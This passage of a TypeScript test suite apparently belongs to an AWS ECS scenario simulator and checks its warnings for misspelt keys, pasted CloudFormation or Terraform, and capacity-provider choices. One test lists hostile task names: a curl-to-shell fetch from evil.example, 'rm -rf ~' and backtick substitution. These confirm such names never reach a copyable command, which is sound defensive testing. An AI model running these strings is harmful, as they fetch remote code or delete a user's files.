    expect(many.warnings).toEqual(['faults[1], faults[2] and 197 more repeat faults[0]: a fault applies once, so the copies change nothing.']);
    // another container's pull is another fault
    expect(loadScenario({ taskDefinition: td, faults: [{ step: 'PullImage', container: 'a' }, { step: 'PullImage', image: 'a' }] }).warnings).toBeUndefined();
  });

  it('should name a misspelt key in a task definition, its containers and what we read in them, in any input shape', () => {
    const container = { name: 'a', image: 'a', memory: 128, esential: false, stoptimeout: 5, healthCheck: { command: ['CMD', 'true'], intervall: 10 }, dependsOn: [], portMappings: [{ containerPort: 80, hostPrt: 80 }] };
    const expected = (at: string) => [
      `${at}containerDefinitions[0].esential is not a field we know, so it is ignored: did you mean ${at}containerDefinitions[0].essential?`,
      `${at}containerDefinitions[0].stoptimeout is not a field we know, so it is ignored: did you mean ${at}containerDefinitions[0].stopTimeout?`,
      `${at}containerDefinitions[0].healthCheck.intervall is not a field we know, so it is ignored: did you mean ${at}containerDefinitions[0].healthCheck.interval?`,
      `${at}containerDefinitions[0].portMappings[0].hostPrt is not a field we know, so it is ignored: did you mean ${at}containerDefinitions[0].portMappings[0].hostPort?`,
    ];
    expect(loadScenario({ family: 'x', containerDefinitions: [container] }).warnings).toEqual(expected(''));
    expect(loadScenario({ taskDefinition: { family: 'x', containerDefinitions: [container] } }).warnings).toEqual(expected('taskDefinition.'));
    expect(loadScenario({ taskDefinition: { taskDefinition: { family: 'x', containerDefinitions: [container] } } }).warnings).toEqual(expected('taskDefinition.taskDefinition.'));
    // a revision deployed by UpdateService too
    const deployed = { at: 60, action: 'UpdateService', taskDefinition: { family: 'x', containerDefinitions: [container] } };
    expect(loadScenario({ taskDefinition: td, service: { serviceName: 'web' }, timeline: [deployed] }).warnings).toEqual(expected('timeline[0].taskDefinition.'));
    // beside the key it is close to, it is not asked for as if it were missing
    expect(loadScenario({ family: 'x', containerDefinitions: [{ name: 'a', image: 'a', memory: 128, essential: true, esential: false }] }).warnings).toEqual([
      'containerDefinitions[0].esential is not a field we know, so it is ignored (containerDefinitions[0].essential, which it is close to, is given beside it)',
    ]);
    expect(rejection({ family: 'x', containerDefinitons: [container] }).message).toBe(
      'taskDefinition: required: give a scenario with a "taskDefinition", or a task definition with "containerDefinitions" (did you mean containerDefinitions? found containerDefinitons)',
    );
    // a CloudFormation resource says what it is, and where the API's shape comes from
    expect(rejection({ Type: 'AWS::ECS::TaskDefinition', Properties: { Family: 'x', ContainerDefinitions: [{ Name: 'a', Image: 'b' }] } }).message).toMatch(
      /^taskDefinition: required: this is a CloudFormation resource \(Type AWS::ECS::TaskDefinition\).*aws ecs describe-task-definition/,
    );
  });

  it('should say once that a half-filled --generate-cli-skeleton template holds placeholders, where one of them is refused', () => {
    // a skeleton (test/sim/scenario/fixtures/register-skeleton.json) with its family, name and image filled in
    const skeleton = JSON.parse(readFileSync(join(repoRoot, 'test/sim/scenario/fixtures/register-skeleton.json'), 'utf8')) as Record<string, unknown>;
    // the hint first, then every placeholder refused (a run for each was a dozen runs)
    expect(rejection(skeleton).lines()).toEqual([
      'this looks like a --generate-cli-skeleton template: its "" and 0 are placeholders, which RegisterTaskDefinition refuses too; fill in or remove every field you do not use',
      'cpu: must be CPU units as a number ("256") or vCPU ("1 vCPU"), got ""',
      'memory: must be MiB as a number ("2048") or GB ("2 GB"), got ""',
      'containerDefinitions[0].memory: must be a whole number of MiB from 1 to 2147483647 (or one written as a string such as "512"), got 0',
      'containerDefinitions[0].memoryReservation: must be a whole number of MiB from 1 to 2147483647 (or one written as a string such as "512"), got 0',
      'containerDefinitions[0].portMappings[0].containerPort: must be an integer from 1 to 65535, got 0',
      'containerDefinitions[0].portMappings[0].containerPortRange: must be a range of ports such as "8000-8010", got ""',
      'executionRoleArn: must be the ARN of the task execution role, such as "arn:aws:iam::123456789012:role/ecsTaskExecutionRole", got ""',
    ]);
    // a real definition with one zero is told only about it, even with empty environment values (often "" for real)
    const env = Array.from({ length: 6 }, (_, i) => ({ name: `FLAG_${i}`, value: '' }));
    const real = { family: 'web', containerDefinitions: [{ name: 'web', image: 'nginx', memory: 0, environment: env }] };
    expect(rejection(real).message).not.toContain('skeleton');
    // nor is a value that only begins with 0 a placeholder
    const labels = { a: '', b: '', c: '', d: '', e: '' };
    expect(rejection({ family: 'web', containerDefinitions: [{ name: 'web', image: 'nginx', cpu: 0.5, dockerLabels: labels }] }).lines()).toEqual([
      expect.stringMatching(/^containerDefinitions\[0\]\.cpu: .*got 0\.5$/),
    ]);
  });

  it('should say what else about ECS was pasted, with the command that prints the task definition it names', () => {
    const arn = 'arn:aws:ecs:us-east-1:123456789012:task-definition/web:3';
    const says = (raw: unknown) => rejection(raw).message;
    expect(says({ AWSTemplateFormatVersion: '2010-09-09', Resources: { Td: { Type: 'AWS::ECS::TaskDefinition', Properties: {} } } })).toMatch(/^taskDefinition: required: this is a CloudFormation template,.*describe-task-definition --task-definition <family>/);
    expect(says({ tasks: [{ taskArn: 'arn:aws:ecs:us-east-1:123456789012:task/default/abc', taskDefinitionArn: arn }], failures: [] })).toBe(
      `taskDefinition: required: this is DescribeTasks output, which describes tasks, not their definition: give what aws ecs describe-task-definition --task-definition ${arn} prints`,
    );
    expect(says({ services: [{ serviceName: 'web', taskDefinition: arn }] })).toContain(`DescribeServices output, which names its task definition without its containers: give what aws ecs describe-task-definition --task-definition ${arn} prints`);
    expect(says({ version: '0', 'detail-type': 'ECS Task State Change', source: 'aws.ecs', detail: { taskDefinitionArn: arn } })).toContain(`this is an EventBridge event (ECS Task State Change)`);
    // Terraform's attributes (container_definitions a JSON string), its state, and `terraform show -json`
    expect(says({ family: 'web', network_mode: 'awsvpc', container_definitions: '[{"name":"web","image":"nginx"}]' })).toBe(
      "taskDefinition: required: this is Terraform's aws_ecs_task_definition, whose fields are snake_case and whose container_definitions is a JSON string; give the registered definition instead: aws ecs describe-task-definition --task-definition web prints it",
    );
    expect(says({ version: 4, terraform_version: '1.9.0', resources: [] })).toMatch(/^taskDefinition: required: this is Terraform state,/);
    // snake_case written by hand, its containers a list: not called a JSON string
    expect(says({ family: 'web', container_definitions: [{ name: 'web', image: 'nginx' }] })).not.toContain('Terraform');
    expect(says({ format_version: '1.0', values: { root_module: {} } })).toMatch(/^taskDefinition: required: this is Terraform state,/);
    // a .tf.json file, and Terraform's attributes put where a scenario's definition goes
    expect(says({ resource: { aws_ecs_task_definition: { web: { family: 'web', container_definitions: '${jsonencode([])}' } } } })).toMatch(/^taskDefinition: required: this is Terraform configuration in JSON \(\.tf\.json\),.*describe-task-definition --task-definition <family> prints it$/);
    expect(says({ taskDefinition: { family: 'web', network_mode: 'awsvpc', container_definitions: '[{"name":"web","image":"nginx"}]' }, timeline: [] })).toBe(
      "taskDefinition: must be a task definition: this is Terraform's aws_ecs_task_definition, whose fields are snake_case and whose container_definitions is a JSON string; give the registered definition instead: aws ecs describe-task-definition --task-definition web prints it",
    );
    // RunTask or CreateService input names its definition
    expect(says({ cluster: 'default', taskDefinition: 'web:3', count: 1 })).toBe(
      'taskDefinition: must be an object (a task definition), got "web:3": a name or ARN names a definition registered in AWS, which the simulator cannot read; give its JSON instead (aws ecs describe-task-definition --task-definition web:3 prints it)',
    );
    // a name that is not a family, family:revision or ARN never reaches the command to copy: a link or file is not the reader's to trust
    const hostile = ['web:3$(curl -s evil.example/x|sh)', 'x && rm -rf ~ ;', 'web:3 `id`', "web'3"];
    for (const name of hostile) {
      expect(says({ taskDefinition: name })).toContain('(aws ecs describe-task-definition --task-definition <family:revision> prints it)');
      expect(says({ tasks: [{ taskDefinitionArn: name }] })).toMatch(/--task-definition <taskDefinitionArn> prints$/);
      expect(says({ services: [{ taskDefinition: name }] })).toContain('--task-definition <taskDefinition> prints');
      expect(says({ 'detail-type': 'ECS Task State Change', source: 'aws.ecs', detail: { taskDefinitionArn: name } })).toContain('--task-definition <family> prints');
    }
    // RunTask input made a scenario: its fields that would change what runs are named as ignored
    const runTask = loadScenario({ cluster: 'prod', count: 3, overrides: { containerOverrides: [] }, taskDefinition: fargate() });
    expect(runTask.warnings).toEqual([
      'overrides is ignored: the task runs its definition as registered (RunTask’s overrides are not simulated): edit the definition instead',
      'count is ignored: one task runs; for several, give a "service" with its desiredCount',
      'cluster is ignored: the cluster is named in "settings": { "cluster": … }',
    ]);
    // a setting or a service's field beside them, where it changes nothing
    expect(loadScenario({ taskDefinition: fargate(), deregistrationDelaySeconds: 10, spotStopCode: 'TerminationNotice', desiredCount: 3 }).warnings).toEqual([
      'deregistrationDelaySeconds is ignored at the top level: it is a setting, so write it under "settings": { "deregistrationDelaySeconds": … }',
      'spotStopCode is ignored at the top level: it is a setting, so write it under "settings": { "spotStopCode": … }',
      'desiredCount is ignored: one task runs; for several, give a "service" with its desiredCount',
    ]);
    // a key of no shape a scenario is made from: ignored, and said (a near miss says what it misses)
    const keys = 'taskDefinition, launchType, capacityProviderStrategy, loadBalancers, serviceRegistries, settings, seed, startTime, timeline, faults, service, containerInstances';
    const actions = 'actions is not a scenario key, so it is ignored: the actions go in "timeline": [{ "at": …, "action": … }]';
    expect(loadScenario({ taskDefinition: fargate(), actions: [{ at: 5, action: 'StopTask' }], timelines: [], steps: [] }).warnings).toEqual([
      'timelines is not a field we know, so it is ignored: did you mean timeline?',
      actions,
      `steps is not a scenario key, so it is ignored (the keys are: ${keys})`,
    ]);
    // beside a bare definition too (its other keys are AWS's, and quiet), where a timeline would run
    expect(loadScenario({ ...fargate(), actions: [{ at: 5, action: 'StopTask' }] }).warnings).toEqual([actions]);
    // a service's field written beside the definition, not under "service"
    expect(loadScenario({ taskDefinition: fargate(), serviceName: 'web', serviceConnectConfiguration: { enabled: true } }).warnings).toEqual([
      'serviceName is ignored at the top level: it is a service\'s field, so write it under "service": { "serviceName": … }',
      'serviceConnectConfiguration is ignored at the top level: it is a service\'s field, so write it under "service": { "serviceConnectConfiguration": … }',
    ]);
    // RunTask's other fields, describe-task-definition's tags, boto3's metadata and notes to the reader: quiet
    const quiet = { tags: [], startedBy: 'ci', group: 'g', propagateTags: 'NONE', referenceId: 'r', clientToken: 't', platformVersion: 'LATEST', ResponseMetadata: {}, _comment: 'mine' };
    expect(loadScenario({ taskDefinition: fargate(), ...quiet }).warnings).toBeUndefined();
    // another Fargate platform than the one the events report
    expect(loadScenario({ taskDefinition: fargate(), platformVersion: '1.3.0' }).warnings).toEqual([
      'platformVersion "1.3.0" is ignored: the simulated Fargate platform is 1.4.0 (LATEST), which the events and DescribeTasks report',
    ]);
    expect(loadScenario({ taskDefinition: fargate(), platformVersion: '1.4.0' }).warnings).toBeUndefined();
    // a deregistered revision, as describe-task-definition shows it: AWS would run no new task of it
    expect(loadScenario({ taskDefinition: { ...fargate(), status: 'INACTIVE' } }).warnings).toEqual([
      'taskDefinition.status is INACTIVE: this revision is deregistered, and AWS starts no new task or service from it (RunTask and CreateService refuse it); the simulator runs it as if it were ACTIVE. Register it again to run it in AWS.',
    ]);
    expect(loadScenario({ ...fargate(), status: 'DELETE_IN_PROGRESS' }).warnings).toEqual([expect.stringMatching(/^status is DELETE_IN_PROGRESS: this revision is deregistered/)]);
    expect(loadScenario({ ...fargate(), status: 'ACTIVE' }).warnings).toBeUndefined();
    // a bare definition's own keys are AWS's, unknown ones included
    expect(loadScenario({ ...fargate(), inferenceAccelerators: [], someNewAwsField: 1 }).warnings).toBeUndefined();
    // YAML by mistake; and text that is neither gets no such guess
    expect(textRejection('family: web\ncontainerDefinitions:\n  - name: web\n').message).toMatch(/^malformed JSON: line 1, column 1: .* \(this looks like YAML: the scenario is JSON; convert it first\)$/);
    expect(textRejection('nonsense').message).not.toContain('YAML');
    // Terraform in its own syntax (a .tf file), past its comments
    const tf = '# the web service\n\nresource "aws_ecs_task_definition" "web" {\n  family = "web"\n}\n';
    expect(textRejection(tf).message).toMatch(/^malformed JSON: line 1, column 1: .* \(this looks like Terraform \(HCL\): the scenario is JSON; give the registered definition instead \(after terraform apply\): aws ecs describe-task-definition --task-definition <family> prints it\)$/);
    expect(textRejection('resources: web {').message).not.toContain('Terraform');
    expect(textRejection('{"family": "web" containerDefinitions: 1}').message).not.toContain('YAML');
  });

  it("should name a misspelt key inside a circuit breaker and its threshold, in the service and in an UpdateService, and leave notes alone however near", () => {
    const breaker = { enable: true, rollback: true, resetOnHealthyTasks: false, thresholdConfiguration: { type: 'COUNT', vale: 3 } };
    expect(loadScenario({ taskDefinition: td, service: { serviceName: 'web', deploymentConfiguration: { deploymentCircuitBreaker: { ...breaker, thresholdConfiguration: { type: 'COUNT', value: 3, vale: 3 } } } } }).warnings).toEqual([
      'service.deploymentConfiguration.deploymentCircuitBreaker.resetOnHealthyTasks is not a field we know, so it is ignored: did you mean service.deploymentConfiguration.deploymentCircuitBreaker.resetOnHealthyTask?',
      'service.deploymentConfiguration.deploymentCircuitBreaker.thresholdConfiguration.vale is not a field we know, so it is ignored (service.deploymentConfiguration.deploymentCircuitBreaker.thresholdConfiguration.value, which it is close to, is given beside it)',
    ]);
    const update = loadScenario({ taskDefinition: td, service: { serviceName: 'web' }, timeline: [{ at: 60, action: 'UpdateService', deploymentConfiguration: { maximumPercnt: 150, deploymentCircuitBreaker: { enable: true, rollback: false, rollbak: true } } }] });
    expect(update.warnings).toEqual([
      'timeline[0].deploymentConfiguration.maximumPercnt is not a field we know, so it is ignored: did you mean timeline[0].deploymentConfiguration.maximumPercent?',
      'timeline[0].deploymentConfiguration.deploymentCircuitBreaker.rollbak is not a field we know, so it is ignored (timeline[0].deploymentConfiguration.deploymentCircuitBreaker.rollback, which it is close to, is given beside it)',
    ]);
    expect(loadScenario({ taskDefinition: td, settings: { _cluster: 'old', _region: 'x' }, timeline: [{ at: 5, action: 'StopTask', _reason: 'why' }] }).warnings).toBeUndefined();
  });

  it('should say nothing of the real task definitions, whose every field AWS knows, but that an awsvpc hostPort unlike its containerPort is ignored', () => {
    const noted = realTaskDefinitions().flatMap(({ file, json }) => (loadScenario(json).warnings ?? []).map((w) => `${file}: ${w.replace(/ is ignored: .*/, '')}`));
    expect(noted.map((n) => n.replace(/^.*\//, ''))).toEqual([
      'kibana_ec2.json: containerDefinitions[0].portMappings[0].hostPort 80',
      'tomcat_ec2.json: containerDefinitions[0].portMappings[0].hostPort 80',
    ]);
  });

  it('should say nothing of fields real files carry that we do not model', () => {
    expect(loadScenario({ taskDefinition: td, tags: [], ResponseMetadata: {} }).warnings).toBeUndefined();
    // short keys are near everything: an `id` is not a misspelt `at` (only a key an action does not take)
    expect(loadScenario({ taskDefinition: td, timeline: [{ at: 5, action: 'StopTask', id: 'x' }] }).warnings).toEqual([
      expect.stringMatching(/^timeline\[0\]\.id is not a field any action takes, so it is ignored \(/),
    ]);
  });
});

describe('capacity provider strategy', () => {
  const spot = [{ capacityProvider: 'FARGATE_SPOT', weight: 1 }];

  it('should run on the provider it names, on Fargate for FARGATE and FARGATE_SPOT, on EC2 for an Auto Scaling group', () => {
    expect(loadScenario(withTd({ capacityProviderStrategy: spot }))).toMatchObject({ launchType: 'FARGATE', capacityProviderName: 'FARGATE_SPOT' });
    const both = [{ capacityProvider: 'FARGATE', base: 1, weight: 1 }, { capacityProvider: 'FARGATE_SPOT', weight: 4 }];
    expect(loadScenario(withTd({ capacityProviderStrategy: both })).capacityProviderName).toBe('FARGATE');
    const asg = { taskDefinition: { family: 'x', containerDefinitions: [{ name: 'a', image: 'a', memory: 128 }] }, capacityProviderStrategy: [{ capacityProvider: 'my-asg', weight: 1 }] };
    expect(loadScenario(asg)).toMatchObject({ launchType: 'EC2', capacityProviderName: 'my-asg' });
  });

  it('should blame a launch type the strategy chose on the strategy, not on launchType', () => {
    const bridge = { family: 'x', networkMode: 'bridge', requiresCompatibilities: ['EC2'], cpu: '256', memory: '512', containerDefinitions: [{ name: 'a', image: 'a' }] };
    expect(rejection({ taskDefinition: bridge, capacityProviderStrategy: spot }).field).toBe('capacityProviderStrategy');
  });

  it('should refuse a launch type beside a strategy, a mixed or all-zero strategy, and a Spot notice on on-demand FARGATE', () => {
    expect(rejection(withTd({ launchType: 'FARGATE', capacityProviderStrategy: spot })).message).toBe('launchType: give launchType or capacityProviderStrategy, not both (RunTask refuses both)');
    expect(rejection(withTd({ capacityProviderStrategy: [...spot, { capacityProvider: 'my-asg', weight: 1 }] })).field).toBe('capacityProviderStrategy');
    expect(rejection(withTd({ capacityProviderStrategy: [{ capacityProvider: 'FARGATE_SPOT' }] })).message).toMatch(/^capacityProviderStrategy: needs a provider with a weight or a base/);
    const onDemand = rejection(withTd({ capacityProviderStrategy: [{ capacityProvider: 'FARGATE', weight: 1 }], timeline: [{ at: 60, action: 'SpotInterruption' }] }));
    expect(onDemand.message).toBe('timeline[0].action: SpotInterruption is for Fargate Spot tasks, but the capacity provider is FARGATE (on-demand)');
    // RunTask with launchType FARGATE runs on-demand too; with neither, the cluster's default strategy may be Spot
    const launched = rejection(withTd({ launchType: 'FARGATE', timeline: [{ at: 60, action: 'SpotInterruption' }] }));
    expect(launched.message).toBe(
      'timeline[0].action: SpotInterruption is for Fargate Spot tasks, but launchType FARGATE runs on-demand: give capacityProviderStrategy [{ "capacityProvider": "FARGATE_SPOT", "weight": 1 }] instead',
    );
    // ...and a Spot notice says it was: the task reports FARGATE_SPOT from the start, as a Spot task does
    expect(loadScenario(withTd({ timeline: [{ at: 60, action: 'SpotInterruption' }] }))).toMatchObject({ capacityProviderName: 'FARGATE_SPOT', timeline: [{ action: 'SpotInterruption' }] });
  });

  it('should put the provider in every event and in DescribeTasks', () => {
    const sim = createSimulation(loadScenario(withTd({ capacityProviderStrategy: spot })));
    sim.runUntil(120_000);
    expect(sim.events.every((e) => (e as { detail: { capacityProviderName?: string } }).detail.capacityProviderName === 'FARGATE_SPOT')).toBe(true);
    expect((sim.describeTask() as { capacityProviderName?: string }).capacityProviderName).toBe('FARGATE_SPOT');
  });
});
